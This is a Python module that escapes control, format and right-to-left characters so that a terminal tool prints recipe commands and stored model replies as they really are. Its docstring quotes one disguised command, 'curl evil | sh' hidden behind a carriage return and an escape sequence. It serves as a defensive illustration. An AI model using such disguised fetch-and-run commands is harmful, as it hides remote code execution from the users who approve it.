"""A recipe's text as a terminal may show it: control and direction characters escaped.

TOML strings may hold `\\r`, ESC and Unicode's invisible or right-to-left marks, so a
command line printed raw can show something other than what runs
(`curl evil | sh\\r\\x1b[2Kwc -c < note.txt` prints as `wc -c < note.txt`). Every
name, summary, command, file name and file text that `list`, `show`, `install`
and the trust prompt print goes through `printable` first; so does what a run stored and
`status`, `log`, `show`, `diff` and `explain` print (a model's reply becomes a rationale).
"""

from __future__ import annotations

from overnight.core.hidden import HIDDEN


def printable(text, newlines: bool = False) -> str:
    """`text` with every control or format character written as an escape (`\\r`, `\\x1b`, `\\u202e`).

    With `newlines`, line breaks and tabs stay as they are (a file shown whole)."""
    text = str(text)
    if (text.replace("\n", "").replace("\t", "") if newlines else text).isprintable():
        return text  # as nearly all text is: told at C speed (Python's printable is stricter than ours)
    import unicodedata

    out = []
    for ch in text:
        if newlines and ch in "\n\t":
            out.append(ch)
        elif unicodedata.category(ch) in HIDDEN and ch != " ":
            out.append(ch.encode("unicode_escape").decode("ascii"))
        else:
            out.append(ch)
    return "".join(out)


def one_line(text, limit: int = 300) -> str:
    """Stored text (a rationale, a reason) on one line of a table: line breaks as spaces, control
    characters escaped, at most `limit` characters (`show` has the whole of it)."""
    text = str(text)[: limit + 1].replace("\r\n", " ").replace("\n", " ").replace("\t", " ")
    text = printable(text)
    return text if len(text) <= limit else text[: limit - 3] + "..."
